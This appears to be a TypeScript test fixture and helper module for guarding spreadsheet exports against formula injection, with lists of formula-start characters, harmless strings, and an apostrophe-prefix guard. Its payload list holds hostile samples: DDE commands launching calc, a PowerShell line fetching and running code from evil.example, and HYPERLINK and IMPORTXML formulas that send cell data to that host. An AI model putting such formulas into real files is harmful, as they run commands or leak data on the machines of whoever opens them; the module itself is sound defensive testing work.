/** What a text begins with that a spreadsheet takes for a formula, by docs/files.md and not by the service's code. */
export const STARTS: readonly string[] = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  '＝',
  '＋',
  '－',
  '＠',
  '\uFEFF',
];

/** Blanks and invisible characters that a spreadsheet may strip before it looks for a formula. */
export const BLANKS: readonly string[] = [
  ...[' ', '\u00A0', '\u3000', '\u2003', '\v', '\x1F', '\x85'],
  ...['\u200B', '\u200D', '\u00AD', '\u2060', '\u202E', '\u2066', '\u061C', '\uFE0F', '\u3164'],
];

const payloads = [
  `=cmd|'/c calc'!A1`,
  `=cmd|' /C powershell IEX(wget evil.example/x)'!A0`,
  `@SUM(1+1)*cmd|'/c calc'!A1`,
  `+cmd|'/c calc'!A1`,
  `-2+3+cmd|'/c calc'!A1`,
  '=HYPERLINK("http://evil.example/?x="&A1&A2,"点此")',
  `=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")`,
  `＝cmd|'/c calc'!A1`,
];

/** Texts that a spreadsheet would run, with what a file could stumble over besides. */
export const formulas: readonly string[] = [
  ...STARTS,
  ...STARTS.map((start) => `${start}1+1`),
  ...payloads,
  ...BLANKS.map((blank) => `${blank}=1+1`),
  ...['  =1+1', ' \u200B\u00A0＝1', ' \t-1', '\u2066\uFEFF@x'],
  ...['-5', '+1', '-2+3', '+86 138', '--1', '=-1', '-0', '=""', '="x"', `='x'`, '\t=1', '\r\n=1', '\n\n@x'],
  ...['=1,2', '=1;2', '=1|2', '=1\t2', '=1\n2', '=1\r\n2', '=灯', '=😀', '=\\.', `=${'x'.repeat(300)}`],
];

/** Texts that no spreadsheet runs, however near they come to it: no cell of them may be changed. */
export const harmless: readonly string[] = [
  ...[
    '',
    ' ',
    '灯',
    '5',
    '1-1',
    'a=1',
    '1+1',
    `'`,
    `''`,
    `'=1+1`,
    `''=1+1`,
    '"=1+1"',
    '(=1+1)',
    '\\.',
    '\\N',
  ],
  ...BLANKS.flatMap((blank) => [`${blank}1`, `${blank}灯=1`]),
  ...['#=1', '!=1', '&=1', '*=1', '/=1', '%=1', '\u2212' + '5', '\u2010x', '—', '＂', 'x\n=1+1', 'NULL'],
];

/** Whether a spreadsheet would take a cell for a formula. */
export function isFormula(cell: string): boolean {
  return (
    STARTS.some((start) => cell.startsWith(start)) ||
    /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}\uFEFF]*[=+\-@＝＋－＠]/u.test(cell)
  );
}

/** What the cell of a text must be where formulas are guarded: one apostrophe more, or the text itself. */
export function guardedCell(text: string): string {
  return isFormula(text) ? `'${text}` : text;
}

/** The text of a guarded cell: the apostrophe is taken off where a formula stands behind it. */
export function textOf(cell: string): string {
  return cell.startsWith(`'`) && isFormula(cell.slice(1)) ? cell.slice(1) : cell;
}

/** The elements of a list in one cell. */
export function listCell(elements: readonly string[]): string {
  return elements.map((one) => (/[;"\r\n]/.test(one) ? `"${one.replaceAll('"', '""')}"` : one)).join(';');
}
